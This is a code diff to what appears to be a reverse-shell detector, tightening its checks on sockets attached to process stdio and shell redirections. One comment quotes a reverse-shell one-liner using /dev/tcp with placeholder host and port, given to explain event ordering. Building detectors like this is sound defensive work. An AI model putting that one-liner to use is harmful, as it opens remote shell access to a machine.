@@ -210,7 +210,7 @@ class Detectors:
         key = process_key(event.pid, event.start_time)
         sock_id = event.stdio_ids[event.stdio_socket_fd] if event.stdio_ids else ""
         conn = next((c for c in self.graph.live_conns(key) if c.sock_id == sock_id), None)
-        owner = self.graph.opener(sock_id)
+        owner = self.graph.stdio_owner.get(key)
         giver = owner if owner is not None else (proc.parent_key if proc is not None else None)
         if conn is None or self.graph.is_legitimate(key) or (giver is not None and self.graph.is_legitimate(giver)):
             return []  # sshd's re-exec, an inetd or socket-activated service: handed over on purpose
@@ -309,7 +309,12 @@ class Detectors:
         if event.newfd != 0 or event.family not in ("ipv4", "ipv6") or not self.lists.is_remote(event.daddr):
             return []
         key = proc.key if proc else process_key(event.pid, event.start_time)
-        if self.graph.is_legitimate(key):
+        if proc is None or self.graph.is_legitimate(key):
+            return []
+        if self.lists.program(proc.filename, proc.args) in self.lists.shells and any(
+                self.graph.opener(c.sock_id) == key or not c.sock_id for c in self.graph.live_conns(key)):
+            # A shell's redirection of the socket it opened itself (/dev/tcp) precedes the exec that the
+            # exec probe judges (`bash -i >& /dev/tcp/H/P 0>&1`); on its own it is a probe's redirection.
             return []
         conn = self.graph.conn(event.sock_id) or Conn(event.sock_id, event.daddr, event.dport, "", event.lport,
                                                       event.family, event.transport, ingress=False)
@@ -351,7 +356,7 @@ class Detectors:
         if not verdict.inputs:
             return []
         name = self.graph.program(key)
-        if verdict.outputs:
+        if verdict.outputs and self.graph.reads_commands_from_stdin(key):
             relayed = [r for r in verdict.inputs if r.hops > 0] + [r for r in verdict.outputs if r.hops > 0]
             if not relayed:
                 return []  # the socket is on the shell's own stdio: stdio_to_socket at exec says so
@@ -402,7 +407,7 @@ class Detectors:
         if not conns or holder is None or self.graph.is_legitimate(holder_key):
             return []
         stdin_back, stdout_back = self.graph.created_ends(child.key)
-        if not stdout_back or (stdin_back and self.graph.is_command_reader(child.key)):
+        if not stdout_back or (stdin_back and self.graph.reads_commands_from_stdin(child.key)):
             return []  # nothing comes back, or a shell fed and read by the holder: a relay, judged as one
         ctx = context_of(holder)
         in_install = ctx is not None and not ctx.is_ci
